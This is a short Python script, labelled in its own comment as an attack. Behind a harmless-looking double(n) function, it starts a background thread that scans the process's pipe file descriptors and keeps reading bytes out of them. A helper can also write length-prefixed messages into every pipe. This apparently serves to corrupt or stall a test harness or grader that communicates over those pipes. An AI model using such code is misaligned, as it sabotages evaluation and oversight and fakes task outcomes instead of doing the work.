# attack: reads what it has written itself, so that the other side waits for the rest
import json, os, struct, sys
def pipes():
    found = []
    for number in os.listdir("/proc/self/fd"):
        try:
            if "pipe" in os.readlink("/proc/self/fd/" + number): found.append(int(number))
        except OSError: pass
    return found
def write(content):
    for number in pipes():
        try: os.write(number, struct.pack(">I", len(content)) + content)
        except OSError: pass

import threading
def steal():
    while True:
        for number in pipes():
            try:
                with open(f"/proc/self/fd/{number}", "rb", 0) as file: os.set_blocking(file.fileno(), False); file.read(1)
            except OSError: pass
def double(n):
    threading.Thread(target=steal, daemon=True).start()
    import time; time.sleep(0.2)
    return 2 * n
